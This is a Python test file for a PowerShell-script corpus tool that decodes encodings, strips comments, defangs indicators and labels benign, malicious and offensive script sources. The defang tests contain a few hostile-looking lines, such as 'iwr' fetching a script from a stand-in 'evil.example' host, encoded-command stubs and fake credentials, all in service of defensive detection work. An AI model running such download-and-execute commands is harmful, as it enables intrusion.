"""Decoding, cleaning, previews and the corpus table."""

import codecs
import hashlib
import io
import json
import os
import random
import subprocess
import sys
import zipfile

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from psembed.powershell import cleaning, decoding, defanging
from psembed.powershell.cleaning import code_lines, strip_comments
from psembed.runtime.errors import CorpusError, SourceError
from psembed.sources import catalogue, corpus
from psembed.sources.snapshots import write_snapshot
from psembed.sources.synthetic import SOURCES, generate

LINE = "Get-ChildItem -Path $env:TEMP | ForEach-Object { $_.Name }\r\n"
TEXT = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufeff"), min_size=1)


@pytest.mark.parametrize(
    ("data", "text", "encoding"),
    [
        (b"", "", "empty"),
        (b"dir\r\n", "dir\r\n", "ascii"),
        ("é".encode(), "é", "utf-8"),
        (codecs.BOM_UTF8 + "é".encode(), "é", "utf-8-bom"),
        (codecs.BOM_UTF8, "", "utf-8-bom"),
        (codecs.BOM_UTF8 + b"a\xff", "a\ufffd", "utf-8-bom"),
        (codecs.BOM_UTF16_LE + LINE.encode("utf-16-le"), LINE, "utf-16-le-bom"),
        (codecs.BOM_UTF16_LE + LINE.encode("utf-16-le") + b"x", LINE + "\ufffd", "utf-16-le-bom"),
        (codecs.BOM_UTF16_BE + LINE.encode("utf-16-be"), LINE, "utf-16-be-bom"),
        (LINE.encode("utf-16-le"), LINE, "utf-16-le"),
        (LINE.encode("utf-16-be"), LINE, "utf-16-be"),
        (
            ("Write-Host '" + "語" * 30 + "'").encode("utf-16-le"),
            "Write-Host '" + "語" * 30 + "'",
            "utf-16-le",
        ),
        (b"caf\xe9 \x93x\x94", "café \u201cx\u201d", "windows-1252"),
        (b"caf\xe9 \x81", "café \ufffd", "windows-1252"),
        (b"\x1d" + LINE.encode(), "\x1d" + LINE, "ascii"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04", None, "binary"),
        (b"dir\x00", None, "binary"),
        (LINE.encode("utf-16-le")[:-1] + b"\xd8\x00\xd8", None, "binary"),
        (codecs.BOM_UTF16_LE + "a\0b".encode("utf-16-le"), None, "binary"),
        (codecs.BOM_UTF32_LE + LINE.encode("utf-32-le"), None, "binary"),
        (bytes(range(1, 128)), None, "binary"),
        (b"\x00" * 1000, None, "binary"),
    ],
)
def test_decode_known_bytes(data, text, encoding):
    assert decoding.decode(data) == (text, encoding)
    assert encoding in decoding.ENCODINGS


@given(TEXT, st.sampled_from(["utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom"]))
def test_decode_reads_back_what_was_encoded(text, name):
    mark = "\ufeff" if name.endswith("-bom") else ""
    assert decoding.decode((mark + text).encode(name.removesuffix("-bom")))[0] == text


@given(st.binary(max_size=300))
def test_decode_never_fails_and_gives_none_only_for_binary(data):
    text, encoding = decoding.decode(data)
    assert encoding in decoding.ENCODINGS
    assert (text is None) == (encoding == "binary")
    assert text is None or "\0" not in text


@given(st.integers())
def test_random_bytes_named_ps1_are_binary(seed):
    assert decoding.decode(random.Random(seed).randbytes(4096)) == (None, "binary")


CLEANED = [
    ("dir # all\r\nls", "dir ls"),
    ("\ufeff  dir\t\r\n\r\n ls \u00a0", "dir ls"),
    ("#requires -version 5\n# two\n  # three\ndir", "dir"),
    ("dir <# a\n b #> ls", "dir ls"),
    ("dir<##>ls", "dir ls"),
    ("<# # #> dir", "dir"),
    ("<# a #># b\ndir", "dir"),
    ("# a <# b\ndir # c #>", "dir"),
    ("'a # b'", "'a # b'"),
    ("'a''# b' # c", "'a''# b'"),
    ("'a\n# b' # c", "'a # b'"),
    ('"a # b" # c', '"a # b"'),
    ('"a `" # b" # c', '"a `" # b"'),
    ('"a ""# b" # c', '"a ""# b"'),
    ('"$" # c', '"$"'),
    ('"$(dir "# a") # b" # c', '"$(dir "# a") # b"'),
    ('"$(dir (1) # a\n) # b" # c', '"$(dir (1) ) # b"'),
    ('"$(dir "$(ls \'#\') #" #\n) #" # c', '"$(dir "$(ls \'#\') #" ) #"'),
    ("\u201ca # b\u201d # c", "\u201ca # b\u201d"),
    ("\u2018a # b\u2019 # c", "\u2018a # b\u2019"),
    ("@'\n# a\n'b'\n'@ # c\ndir", "@' # a 'b' '@ dir"),
    ('@"  \n# a "b" $(\n"@ # c\ndir', '@" # a "b" $( "@ dir'),
    ("@'\n'@ # c", "@' '@"),
    ("@{a=1} # c\n@(1)# d", "@{a=1} @(1)"),
    ("C# page#top a/#b `# d", "C# page#top a/#b `# d"),
    ("{dir};# a\n}#endregion\n$a[0]#x\n'a'#x\n,#x\ndir", "{dir}; } $a[0] 'a' , dir"),
    ("'never closed # a\n# b", "'never closed # a # b"),
    ('"never closed # a', '"never closed # a'),
    ("dir <# never closed\nls", "dir <# never closed ls"),
    ("@'\nnever closed # a", "@' never closed # a"),
    ("dir > 1 < 2 # a", "dir > 1 < 2"),
    ("`", "`"),
    ("", ""),
    ("# a", ""),
]


@pytest.mark.parametrize(("text", "cleaned"), CLEANED)
def test_clean_known_answers(text, cleaned):
    assert cleaning.clean(text) == cleaned


def test_strip_comments_keeps_lines():
    assert cleaning.strip_comments("a # b\r\nc\rd <# e\nf #>g\n") == "a \nc\nd  g\n"
    assert cleaning.strip_comments("a\n# b\n\n# c\nd") == "a\n\nd"


PIECES = st.lists(st.sampled_from([*"'\"#<>@`$()\n a", "$(", "<#", "#>", "@'\n", '\n"@', " # "]))


@given(st.one_of(PIECES.map("".join), st.text()))
@settings(max_examples=200)
def test_clean_only_removes_and_leaves_single_spaces(text):
    cleaned = cleaning.clean(text)
    assert cleaned == " ".join(cleaned.split())
    remaining = iter(text)
    assert all(any(c == other for other in remaining) for c in cleaned if c != " ")


@given(PIECES.map("".join))
@settings(max_examples=200)
def test_text_without_hash_is_only_respaced(text):
    text = text.replace("#", "")
    assert cleaning.clean(text) == " ".join(text.split())


CODE_LINES = [
    ("", ""),
    ("sort | where", "sort | where"),
    ("a 'b' c", "a \n\x02'b'\n\x03 c"),
    ("a # b 'c'\nd", "a \nd"),
    ("a <# b\n'c' #> d", "a   d"),
    ("\ufeffa\r\nb\rc", "a\nb\nc"),
    ("'a\nb' | c", "\n\x02'a b'\n\x03 | c"),
    ("'a''b' c", "\n\x02'a''b'\n\x03 c"),
    ("@'\na\n'b'\n'@ c", "\n\x02@' a 'b' '@\n\x03 c"),
    ('"a $(b) c" d', '\n\x02"a $(\n\x03b)\n\x02 c"\n\x03 d'),
    ('"a `" b" c', '\n\x02"a `" b"\n\x03 c'),
    ("\u201ca\u201d b", "\n\x02\u201ca\u201d\n\x03 b"),
    ("a 'never\nclosed", "a \n\x02'never closed\n\x03"),
    ("a '", "a '"),
    ("@(1) `' b", "@(1) `' b"),
]


@pytest.mark.parametrize(("text", "lines"), CODE_LINES)
def test_code_lines_known_answers(text, lines):
    assert code_lines(text) == lines


def test_code_lines_keeps_comments_or_blanks_strings_when_asked():
    text = "a # b 'c'\n<# d\ne #> 'f' \"g $(h)\"\n@'\ni\n'@"
    kept = "a # b 'c'\n<# d e #> \n\x02'f'\n\x03 \n\x02\"g $(\n\x03h)\n\x02\"\n\x03\n\n\x02@' i '@\n\x03"
    assert code_lines(text, comments=True) == kept
    blank = "a \n  \n\x02''\n\x03 \n\x02''\n\x03h)\n\x02''\n\x03\n\n\x02''\n\x03"
    assert code_lines(text, strings=False) == blank


@given(PIECES.map("".join))
@settings(max_examples=200)
def test_code_lines_only_moves_strings_to_lines_of_their_own(text):
    def joined(lines):
        return lines.replace("\n\x02", "").replace("\n\x03", "").replace("\n", " ")

    lines = code_lines(text)
    assert joined(lines) == joined(strip_comments(text))
    assert joined(code_lines(text, comments=True)) == joined(text)
    begun = [line[:1] for line in lines.split("\n")]
    assert all((begun[n] == "\x02") == (begun[n + 1] == "\x03") for n in range(len(begun) - 1))


@given(st.lists(st.sampled_from([LINE, "'#'\n", '"$(a "#")"\n', "@'\n#\n'@\n"])), st.text())
def test_a_comment_after_whole_statements_changes_nothing(statements, comment):
    text, comment = "".join(statements), comment.replace("\n", "").replace("\r", "")
    assert cleaning.clean(f"{text}# {comment}") == cleaning.clean(text)


@pytest.mark.parametrize("unit", ['"', "'", "#", "\"'", "$(", '"$(', '`"', "<#", '@"\n', "'' ", "a ", " "])
def test_clean_takes_megabytes_of_any_delimiter(unit):
    assert len(cleaning.clean(unit * (4_000_000 // len(unit)))) <= 4_000_000


def test_clean_takes_a_50_mb_line():
    line = "$a = 'x'; " * 5_000_000
    assert len(line) == 50_000_000
    assert len(cleaning.clean(line)) == len(line) - 1
    assert decoding.decode(line.encode())[1] == "ascii"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("iwr https://evil.example/a.ps1", "iwr hxxps://evil[.]example/a.ps1"),
        ("iwr HTTP://10.0.0.1:80/x", "iwr hxxp://10[.]0[.]0[.]1:80/x"),
        ("ping bad-host.example.com", "ping bad-host[.]example[.]com"),
        ("ftp://192.0.2.7/x", "fxp://192[.]0[.]2[.]7/x"),
        ("-enc " + "aGVsbG8A" * 20, "-enc <160 characters cut>"),
        ("(0x4d,0x5a," + "0x00," * 40 + "1)", "(<210 characters cut>1)"),
        ("$password = 'hunter2hunter2'", "$password = '<cut>'"),
        ("$k = 'AKIAABCDEFGHIJKLMNOP'", "$k = '<key cut>'"),
        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----", "<key cut>"),
        ("a\r\n\tb\x1b[31m\u202ec", "a b [31m c"),
        ("ConvertFrom-SecureString", "ConvertFrom-SecureString"),
    ],
)
def test_defang_known_answers(text, shown):
    assert defanging.defang(text) == shown


@given(st.text(), st.integers(10, 300))
def test_defang_is_one_bounded_line_without_live_address(text, limit):
    shown = defanging.defang(f"{text} http://a.example/ {text}", limit)
    assert len(shown) <= limit
    assert shown.isprintable()
    assert "http://" not in shown.lower()


def test_the_module_loads_without_heavy_imports():
    heavy = "('pyarrow', 'pygit2', 'tensorflow')"
    code = f"import sys, psembed.sources.corpus; print([m for m in {heavy} if m in sys.modules])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# The table


def snapshot(root, name, rows, skipped=None):
    path = catalogue.snapshot_path(name, root=root)
    path.parent.mkdir(parents=True, exist_ok=True)
    source = catalogue.load_sources()[name]
    triples = [(p, catalogue.blob_id(data), data) for p, data in rows]
    write_snapshot(path, triples, {"url": source.url, "commit": source.commit}, skipped or {})


def record(script, family):
    return (
        f"{'#' * 25} START {'#' * 25}\n\n\n\n[Original Code]\n\npowershell -enc QQ==\n\n[Filename]\n\nabc\n\n"
        f"[Arguments]\n\n['-enc']\n\n[B64 Decoded]\n\n{script}\n\n[Family Name]\n\n{family}\n\n"
        f"{'#' * 25}  END  {'#' * 25}\n"
    )


def zipped(**members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_files_left_out_at_fetch_are_counted(tmp_path):
    rows = [("powershell_benign_dataset/1.ps1", b"dir"), ("malicious_pure/1.ps1", b"iex $a")]
    snapshot(tmp_path, "mpsd", rows, {"too large": 2, "missing": 1, "not included": 9})
    _, counts = corpus.build(["mpsd"], root=tmp_path)
    assert counts["mpsd"]["files"] == 5
    assert counts["mpsd"]["skipped"] == {"missing at fetch": 1, "too large at fetch": 2}


def test_labels_of_the_three_labelled_sets(tmp_path):
    snapshot(
        tmp_path,
        "mpsd",
        [
            ("malicious_pure/1.ps1", b"iex $a"),
            ("malicious_pure/2.ps1", b"both"),
            ("malicious_pure/3.ps1", b"iex $a"),
            ("mixed_malicious/1.ps1", b"never used"),
            ("powershell_benign_dataset/1.ps1", b"dir"),
            ("powershell_benign_dataset/2.ps1", b"both"),
        ],
    )
    text = record("$c = 'ü'", "Unicorn") + record("[Arguments]\n\ndir", "Unknown")
    snapshot(tmp_path, "unit42-psencmds", [("psencmds/x.zip", zipped(a=text.encode("cp1252")))])
    scores = [
        {"sample": "s9", "score": 9, "tags": "family:redline,stealer"},
        {"sample": "s7", "score": 7, "tags": ""},
    ]
    snapshot(
        tmp_path,
        "fa2y",
        [
            ("bazaar_out/b.ps1", b"b"),
            ("hybrid_analysis_out/h.bin.sample", b"h"),
            ("triage_data.json", json.dumps({"ps1_files": scores}).encode()),
            ("triage_out/s7.ps1", b"low"),
            ("triage_out/s8.ps1", b"unknown"),
            ("triage_out/s9.ps1", b"high"),
        ],
    )
    table, counts = corpus.build(["mpsd", "unit42-psencmds", "fa2y"], root=tmp_path)
    found = {row[:2]: row[2:] for row in table["source", "text", "label", "family"].rows()}
    assert found == {
        ("mpsd", "iex $a"): (1, ""),
        ("mpsd", "dir"): (0, ""),
        ("unit42-psencmds", "$c = 'ü'"): (1, "Unicorn"),
        ("unit42-psencmds", "[Arguments]\n\ndir"): (1, "Unknown"),
        ("fa2y", "b"): (1, ""),
        ("fa2y", "h"): (1, ""),
        ("fa2y", "high"): (1, "redline"),
    }
    assert counts["mpsd"]["skipped"] == {"both labels": 2, "duplicate": 1}
    assert counts["fa2y"]["skipped"] == {"no triage score": 1, "triage score below 8": 1}
    script = table.row(by_predicate=pl.col("family") == "Unicorn", named=True)
    assert script["sha256"] == hashlib.sha256("$c = 'ü'".encode()).hexdigest()
    assert table.schema == pl.Schema(corpus.SCHEMA)


def test_every_decision_is_counted(tmp_path):
    rows = [
        ("a.ps1", b"dir"),
        ("b.ps1", b"dir"),
        ("c.ps1", b"MZ\x00\x00"),
        ("d.PSM1", LINE.encode("utf-16-le")),
        ("e.ps1", b" \r\n"),
        ("f.ps1", b""),
        ("g.ps1", b"x" * 101),
    ]
    snapshot(tmp_path, "pester-pester", rows)
    table, counts = corpus.build(["pester-pester"], root=tmp_path, max_bytes=200)
    got = counts["pester-pester"]
    assert got["encodings"] == {"ascii": 4, "binary": 1, "empty": 1, "utf-16-le": 1}
    assert got["skipped"] == {"binary": 1, "duplicate": 1, "empty": 2}
    assert got["labels"] == {"0": 3}
    assert got["files"] == got["rows"] + sum(got["skipped"].values()) == 7
    assert table["text"].to_list() == ["dir", LINE, "x" * 101]
    assert set(table["stratum"]) == {"human"}
    smaller = corpus.build(["pester-pester"], root=tmp_path, max_bytes=100)[1]["pester-pester"]
    assert smaller["skipped"]["too large"] == 2
    assert json.dumps(counts)


def test_offensive_rows_have_no_label_and_their_group(tmp_path):
    snapshot(tmp_path, "powershellmafia-powersploit", [("a.ps1", b"dir")])
    table, counts = corpus.build(["powershellmafia-powersploit"], root=tmp_path)
    assert table["label", "kind", "repository_group"].rows() == [(None, "offensive", "offensive")]
    assert counts["powershellmafia-powersploit"]["labels"] == {"none": 1}


def test_generated_sources_go_through_the_same_reader(tmp_path):
    generated = generate(scripts=300, seed=1)
    extra = [(SOURCES[name], rows) for name, rows in generated.items()]
    table, counts = corpus.build([], root=tmp_path, extra=extra)
    assert sum(got["files"] for got in counts.values()) == 300
    assert table.equals(corpus.build([], root=tmp_path, extra=extra)[0])
    assert set(table["label"].unique()) == {0, 1, None}


def test_an_empty_corpus_a_double_source_and_a_missing_snapshot_are_refused(tmp_path):
    snapshot(tmp_path, "pester-pester", [("a.ps1", b"\x00")])
    with pytest.raises(CorpusError, match="empty"):
        corpus.build(["pester-pester"], root=tmp_path)
    with pytest.raises(CorpusError, match="empty"):
        corpus.build([], root=tmp_path)
    snapshot(tmp_path, "pester-pester", [("a.ps1", b"dir")])
    with pytest.raises(CorpusError, match="twice"):
        corpus.build(["pester-pester", "pester-pester"], root=tmp_path)
    with pytest.raises(SourceError, match="psembed fetch mpsd"):
        corpus.build(["mpsd"], root=tmp_path)
    with pytest.raises(SourceError, match="pester-pester"):
        corpus.build(["pester"], root=tmp_path)


@pytest.mark.parametrize("content", [b"no json", b"{}", b'{"ps1_files": [{"sample": "a"}]}', None])
def test_triage_without_scores_is_refused(tmp_path, content):
    rows = [("triage_out/a.ps1", b"dir")]
    snapshot(tmp_path, "fa2y", rows + ([("triage_data.json", content)] if content else []))
    with pytest.raises(CorpusError, match=r"triage_data\.json"):
        corpus.build(["fa2y"], root=tmp_path)


def test_nothing_is_written_to_disk_but_snapshots(tmp_path):
    snapshot(tmp_path, "pester-pester", [("a.ps1", b"dir")])
    corpus.build(["pester-pester"], root=tmp_path)
    files = [name for _, _, names in os.walk(tmp_path) for name in names]
    assert files == ["pester-pester.parquet"]
